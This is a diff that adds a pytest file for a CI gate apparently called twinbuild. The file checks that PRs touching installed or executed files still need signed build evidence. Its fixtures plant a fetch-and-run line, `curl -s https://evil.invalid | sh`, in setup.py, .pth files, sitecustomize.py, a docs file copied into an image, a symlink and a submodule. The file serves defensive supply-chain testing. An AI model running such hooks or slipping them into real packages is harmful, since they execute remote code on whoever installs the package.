@@ -1,0 +1,191 @@
+"""Deny by default: every file of the PR head is an image input but a short list of paths no build
+installs or runs (docs/, tests/, evidence/, README.md), and that list is the base's code.
+
+Each attack is a PR on a real repository (tests/unit/gate_repos.py) branched from the base, with
+no evidence, judged the way gate.yml runs the gate. An allowlist of what matters (the old
+``BUILDER_CODE``) let each of these pass as "no image input changed".
+"""
+
+from __future__ import annotations
+
+import subprocess
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from tests.unit.gate_repos import GateRepo, approved, make_repo, run_gate
+from tests.unit.gitrepos import commit_all, git, needs_git
+from twinbuild.evidence.head import commit_inputs
+
+pytestmark = needs_git
+
+
+@pytest.fixture
+def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> GateRepo:
+    repo = make_repo(tmp_path, monkeypatch)
+    git(repo.root, "checkout", "-q", "-b", "attack", repo.base)
+    git(repo.root, "update-ref", "-d", "refs/heads/validate/pr-42")  # no evidence at all
+    return repo
+
+
+def _append(rel: str, text: str) -> Callable[[Path], None]:
+    def change(root: Path) -> None:
+        path = root / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        with path.open("a", encoding="utf-8") as handle:
+            handle.write(text)
+
+    return change
+
+
+def _chmod_x(rel: str) -> Callable[[Path], None]:
+    def change(root: Path) -> None:
+        (root / rel).chmod(0o755)
+
+    return change
+
+
+def _move(src: str, dst: str) -> Callable[[Path], None]:
+    def change(root: Path) -> None:
+        (root / dst).parent.mkdir(parents=True, exist_ok=True)
+        git(root, "mv", src, dst)
+
+    return change
+
+
+LOOSEN = "\nMAX_BYTES = 1 << 40  # every manifest read goes through here\n"
+HOOK = "import os; os.system('curl -s https://evil.invalid | sh')\n"
+CHANGES: dict[str, Callable[[Path], None]] = {
+    # a helper every manifest read goes through, outside the old builder list
+    "an installed helper": _append("twinbuild/util/bounded.py", LOOSEN),
+    "the package's __init__.py": _append("twinbuild/__init__.py", "\n__all__ = []\n"),
+    "a new setup.py (setuptools runs it on pip install .)": _append(
+        "setup.py", "from setuptools import setup\n" + HOOK + "setup()\n"
+    ),
+    "a new .pth file at the top": _append("twinbuild-hook.pth", HOOK),
+    "a new .pth file in the package": _append("twinbuild/_hook.pth", HOOK),
+    "a new top-level module": _append("sitecustomize.py", HOOK),
+    "a workflow (the validation build runs it)": _append(
+        ".github/workflows/validate.yml", "# build differently\n"
+    ),
+    "the executable bit of a module": _chmod_x("twinbuild/cli/main.py"),
+    "a module moved into docs/": _move("twinbuild/util/append.py", "docs/append.py"),
+    "the gitignore (what a checkout leaves out)": _append(".gitignore", "twinbuild/util/\n"),
+}
+
+
+@pytest.mark.parametrize("what", CHANGES)
+def test_a_change_to_any_installed_or_run_file_needs_evidence(
+    repo: GateRepo, capsys: pytest.CaptureFixture[str], what: str
+) -> None:
+    CHANGES[what](repo.root)
+    head = commit_all(repo.root, what)
+    assert commit_inputs(head).inputs != commit_inputs(repo.base).inputs
+    # A code owner approved the head: what is left is the image input the change made.
+    code, out, err = run_gate(capsys, head, "--base", repo.base, approved(repo, head))
+    assert [line.split(";")[0] for line in err] == [
+        "twinbuild: cuda: missing: no signed cuda evidence",
+        "twinbuild: rocm: missing: no signed rocm evidence",
+    ]
+    assert code == 7
+    assert not any("no image input changed" in line for line in out)
+
+
+def test_docs_tests_and_the_readme_pass_with_no_evidence_and_no_approval(
+    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _append("docs/building.md", "# building\n\nmore words\n")(repo.root)
+    _append("tests/unit/test_more.py", "def test_more() -> None: ...\n")(repo.root)
+    _append("README.md", "\nmore words\n")(repo.root)
+    _append("evidence/README.md", "where the evidence lives\n")(repo.root)
+    (repo.root / "docs/readme-link.md").symlink_to("../README.md")  # a link no build follows
+    head = commit_all(repo.root, "docs and tests")
+    code, out, err = run_gate(capsys, head, "--base", repo.base)
+    found = commit_inputs(head)
+    assert (code, err) == (0, [])
+    assert out == [
+        f"no image input changed between the base {repo.base[:12]} and the head {head[:12]} "
+        f"(cuda {found.inputs['cuda']}, rocm {found.inputs['rocm']}); no GPU evidence needed"
+    ]
+
+
+def test_a_docs_file_the_recipe_copies_is_an_input(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    repo = make_repo(tmp_path, monkeypatch)
+    git(repo.root, "checkout", "-q", "main")
+    _append("docs/motd.txt", "welcome\n")(repo.root)
+    _append("images/cuda/Dockerfile", "COPY docs/motd.txt /etc/motd\n")(repo.root)
+    base = commit_all(repo.root, "the image shows the docs' motd")
+    _append("docs/motd.txt", "curl -s https://evil.invalid | sh\n")(repo.root)
+    head = commit_all(repo.root, "docs: a new motd")
+    git(repo.root, "update-ref", "-d", "refs/heads/validate/pr-42")
+    code, _, err = run_gate(capsys, head, "--base", base)
+    assert code == 7
+    assert [line.split(";")[0] for line in err] == [
+        "twinbuild: cuda: missing: no signed cuda evidence",
+        "twinbuild: rocm: missing: no signed rocm evidence",
+    ]
+    assert commit_inputs(head).inputs["rocm"] == commit_inputs(base).inputs["rocm"]
+
+
+def test_a_symlink_outside_the_not_inputs_is_refused(
+    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    _append("docs/evil.py", HOOK)(repo.root)
+    # pip would follow the link into docs/, whose edits move no hash: refuse the link itself.
+    (repo.root / "twinbuild/evil.py").symlink_to("../docs/evil.py")
+    head = commit_all(repo.root, "a module that lives in docs/")
+    code, out, err = run_gate(capsys, head, "--base", repo.base, approved(repo, head))
+    assert (code, out) == (2, [])
+    assert err == [
+        f"twinbuild: {head}:twinbuild/evil.py: a symlink (mode 120000) among the image inputs "
+        "(every file but docs/, tests/, evidence/, README.md and CODEOWNERS); commit the file itself, the "
+        "gate hashes only what the commit holds"
+    ]
+
+
+def test_a_submodule_outside_the_not_inputs_is_refused(
+    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    sub = repo.root / "vendor"
+    sub.mkdir()
+    git(sub, "init", "-q", "-b", "main")
+    (sub / "hook.py").write_text(HOOK)
+    commit_all(sub, "vendored")
+    head = commit_all(repo.root, "a submodule")
+    code, _, err = run_gate(capsys, head, "--base", repo.base, approved(repo, head))
+    assert code == 2
+    assert err == [
+        f"twinbuild: {head}:vendor: a gitlink, i.e. a submodule (mode 160000) among the image "
+        "inputs (every file but docs/, tests/, evidence/, README.md and CODEOWNERS); commit the file itself, "
+        "the gate hashes only what the commit holds"
+    ]
+
+
+def test_a_path_no_checkout_would_write_is_refused(
+    repo: GateRepo, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # tests/../hook.py: under tests/ by its first name, at the top of the tree by git's reading.
+    hook = _git_in(repo.root, ["hash-object", "-w", "--stdin"], HOOK)
+    inner = _git_in(repo.root, ["mktree"], f"100644 blob {hook}\thook.py\n")
+    dotdot = _git_in(repo.root, ["mktree"], f"040000 tree {inner}\t..\n")
+    listing = git(repo.root, "ls-tree", repo.base).splitlines()
+    tree = _git_in(
+        repo.root, ["mktree"], "\n".join([*listing, f"040000 tree {dotdot}\ttests"]) + "\n"
+    )
+    head = git(repo.root, "commit-tree", tree, "-p", repo.base, "-m", "tests/..")
+    code, _, err = run_gate(capsys, head, "--base", repo.base)
+    assert code == 2
+    assert err == [
+        f"twinbuild: {head}:tests/../hook.py: a path git would not check out ('..' as a name); "
+        "no commit of a repository holds one, rewrite the history without it"
+    ]
+
+
+def _git_in(root: Path, args: list[str], stdin: str) -> str:
+    proc = subprocess.run(
+        ["git", "-C", str(root), *args], input=stdin, capture_output=True, text=True, check=True
+    )
+    return proc.stdout.strip()
